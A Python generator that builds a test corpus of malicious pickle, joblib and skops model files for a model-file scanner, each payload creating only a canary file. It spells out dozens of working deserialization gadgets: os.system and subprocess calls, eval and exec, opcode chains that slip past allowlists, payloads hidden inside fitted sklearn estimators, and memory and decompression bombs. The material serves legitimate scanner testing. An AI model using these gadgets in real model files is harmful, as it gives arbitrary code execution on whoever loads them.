"""Generator of the malicious model corpus (never committed as binaries): one entry per technique in SECURITY.md.

Each payload, if it ever ran, would create its canary file; the tests assert that none exists afterwards.
"""
from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np


@dataclass
class Sample:
    """A malicious file: its bytes, the canary its payload would create, and a name the scan must report."""

    name: str
    data: bytes
    canary: Path
    expect: str  # a substring of one of details.globals, or "" for memory bombs (details.reason)


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def _glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def _p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def _touch(canary: Path) -> str:
    return f"touch {canary}"


class _Reduce:
    """Pickles as ``func(*args)``: the classic ``__reduce__`` payload."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _fitted_models() -> dict[str, Any]:
    from sklearn.datasets import make_classification
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    X, y = make_classification(n_samples=60, n_features=4, random_state=0)
    return {"lr": LogisticRegression().fit(X, y),
            "pipe": Pipeline([("scale", StandardScaler()), ("lr", LogisticRegression())]).fit(X, y)}


def build_corpus(canary_dir: Path) -> list[Sample]:
    """Build every malicious sample; canaries live in ``canary_dir`` (make it writable by anyone)."""
    import os
    import subprocess

    import joblib

    def c(name: str) -> Path:
        return canary_dir / f"canary-{name}"

    out: list[Sample] = []

    def add(name: str, data: bytes, expect: str) -> None:
        out.append(Sample(name, data, c(name), expect))

    sh = _u
    add("os_system_reduce", pickle.dumps(_Reduce(os.system, _touch(c("os_system_reduce"))), protocol=4), "system")
    add("os_system_protocol0", pickle.dumps(_Reduce(os.system, _touch(c("os_system_protocol0"))), protocol=0),
        "system")
    add("subprocess_popen", pickle.dumps(_Reduce(subprocess.Popen, ["touch", str(c("subprocess_popen"))])),
        "subprocess.Popen")
    add("subprocess_check_output", pickle.dumps(_Reduce(subprocess.check_output, ["touch", str(
        c("subprocess_check_output"))]), protocol=2), "check_output")
    add("builtins_eval", pickle.dumps(_Reduce(eval, f"open({str(c('builtins_eval'))!r}, 'w')")), "builtins.eval")
    add("builtins_exec", pickle.dumps(_Reduce(exec, f"open({str(c('builtins_exec'))!r}, 'w')")), "builtins.exec")
    add("builtins_open", pickle.dumps(_Reduce(open, str(c("builtins_open")), "w")), "open")
    os_mod = _call(_glob("builtins", "__import__"), sh("os"))
    add("getattr_import_chain", _p4(_call(_call(_glob("builtins", "getattr"), os_mod, sh("system")),
                                          sh(_touch(c("getattr_import_chain"))))), "builtins.getattr")
    imp = _call(_glob("importlib", "import_module"), sh("os"))
    add("importlib_chain", _p4(_call(_call(_glob("builtins", "getattr"), imp, sh("system")),
                                     sh(_touch(c("importlib_chain"))))), "importlib.import_module")
    inner = pickle.dumps(_Reduce(os.system, _touch(c("nested_pickle_loads"))))
    add("nested_pickle_loads", pickle.dumps(_Reduce(pickle.loads, inner)), "pickle.loads")
    add("protocol0_text", f"cos\nsystem\n(S'{_touch(c('protocol0_text'))}'\ntR.".encode(), "os.system")
    add("inst_opcode", f"(S'{_touch(c('inst_opcode'))}'\nios\nsystem\n.".encode(), "os.system")
    # STACK_GLOBAL with the names memoized and read back through BINGET.
    add("stack_global_memo", _p4(sh("os") + b"\x940" + sh("system") + b"\x940" + b"h\x00h\x01\x93"
                                 + sh(_touch(c("stack_global_memo"))) + b"\x85R"), "os.system")
    # STACK_GLOBAL whose module name is computed by a call: unresolvable statically.
    computed = _call(_glob("builtins", "str"), sh("os"))
    add("stack_global_computed", _p4(computed + sh("system") + b"\x93" + sh(_touch(c("stack_global_computed")))
                                     + b"\x85R"), "unresolved")
    add("dotted_name", _p4(sh("joblib.numpy_pickle") + sh("os.system") + b"\x93"
                           + sh(_touch(c("dotted_name"))) + b"\x85R"), "os.system")
    attrget = _call(_glob("operator", "attrgetter"), sh("system"))
    add("operator_attrgetter", _p4(_call(_call(attrget, imp), sh(_touch(c("operator_attrgetter"))))),
        "operator.attrgetter")
    caller = _call(_glob("_operator", "methodcaller"), sh("system"), sh(_touch(c("operator_methodcaller"))))
    add("operator_methodcaller", _p4(_call(caller, imp)), "_operator.methodcaller")
    resolved = _call(_glob("pkgutil", "resolve_name"), sh("os:system"))
    add("pkgutil_resolve_name", _p4(_call(resolved, sh(_touch(c("pkgutil_resolve_name"))))), "pkgutil.resolve_name")
    add("sklearn_utils_testing", _p4(_call(_glob("sklearn.utils._testing", "check_output"),
                                           b"(" + sh("touch") + sh(str(c("sklearn_utils_testing"))) + b"l")),
        "sklearn.utils._testing.check_output")
    add("pydoc_locate", _p4(_call(_call(_glob("pydoc", "locate"), sh("os.system")),
                                  sh(_touch(c("pydoc_locate"))))), "pydoc.locate")
    add("timeit", _p4(_call(_glob("timeit", "timeit"), sh(f"open({str(c('timeit'))!r}, 'w')"))),
        "timeit.timeit")
    add("functools_partial", _p4(_call(_glob("functools", "partial"), _glob("os", "system"),
                                       sh(_touch(c("functools_partial")))) + b")R"), "functools.partial")
    check = _glob("sklearn.utils.validation", "check_array")
    swap = _call(_glob("functools", "partial"), check) + b"(" + _glob("os", "system") + b")}Nt" + b"b"
    add("partial_state_swap", _p4(swap), "functools.partial")
    add("newobj_popen", _p4(_glob("subprocess", "Popen") + b"(" + b"(" + sh("touch")
                            + sh(str(c("newobj_popen"))) + b"l" + b"t\x81"), "subprocess.Popen")
    add("persistent_id", _p4(sh(_touch(c("persistent_id"))) + b"Q"), "BINPERSID")
    # Gadgets with allowlisted names only: state set on a class itself, a container method called on a function.
    cls = _glob("sklearn.linear_model._base", "LinearRegression")
    add("build_on_class", _p4(cls + b"(N}" + sh("predict") + _glob("numpy", "log") + b"stb"), "build_on_global")
    add("append_on_global", _p4(_glob("numpy", "log") + sh(_touch(c("append_on_global"))) + b"a"),
        "container_op_on_global")
    add("ctypes", pickle.dumps(_Reduce(__import__("ctypes").CDLL, None)), "ctypes")
    models = _fitted_models()
    lr = models["lr"]
    lr.evil_ = _Reduce(os.system, _touch(c("estimator_attribute")))
    add("estimator_attribute", pickle.dumps(lr, protocol=5), "system")
    pipe = models["pipe"]
    pipe.steps[0] = ("scale", _Reduce(os.system, _touch(c("pipeline_step"))))
    add("pipeline_step", pickle.dumps(pipe, protocol=4), "system")
    lr.evil_ = np.array([_Reduce(os.system, _touch(c("object_array")))], dtype=object)
    add("object_array", pickle.dumps(lr, protocol=3), "system")
    for name, compress in (("joblib_object_array", 0), ("joblib_zlib", ("zlib", 3)), ("joblib_xz", ("xz", 3)),
                           ("joblib_lz4", ("lz4", 3))):
        lr.evil_ = np.array([_Reduce(os.system, _touch(c(name)))], dtype=object)
        buffer = io.BytesIO()
        joblib.dump(lr, buffer, compress=compress)
        add(name, buffer.getvalue(), "system")
    del lr.evil_
    buffer = io.BytesIO()
    joblib.dump({"model": lr, "after_arrays": _Reduce(os.system, _touch(c("after_joblib_arrays")))}, buffer)
    add("after_joblib_arrays", buffer.getvalue(), "system")
    add("skops_function", _skops_with_function(c("skops_function")), "posix.system")
    # Memory bombs: an array allocation numpy would honour, a joblib header, a decompression bomb.
    add("bomb_reconstruct", _p4(_call(_glob("numpy._core.multiarray", "_reconstruct"), _glob("numpy", "ndarray"),
                                      b"(J\x00\xe4\x0bTt", sh("b"))), "")
    add("bomb_joblib_header", _joblib_bomb(), "")
    add("bomb_bytes", b"\x80\x02c__builtin__\nbytes\n\x8a\x05\x00\x00\x00\x00\x02\x85R.", "")
    add("bomb_decompression", zlib.compress(b"\x80\x04" + b"N" * (20 << 20), 9), "")
    return out


def _joblib_bomb() -> bytes:
    from joblib.numpy_pickle import NumpyArrayWrapper

    # A header for 10**12 float64 values (8 TB) followed by nothing.
    return pickle.dumps(NumpyArrayWrapper(np.ndarray, (10**12,), "C", np.dtype("f8")), protocol=4)


def _skops_with_function(canary: Path) -> bytes:
    schema = {
        "__class__": "FunctionTransformer", "__module__": "sklearn.preprocessing._function_transformer",
        "__loader__": "ObjectNode", "__id__": 1,
        "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 2,
                    "content": {"func": {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode",
                                         "__id__": 3}}},
        "protocol": 2, "_skops_version": "0.16.0",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return buffer.getvalue()
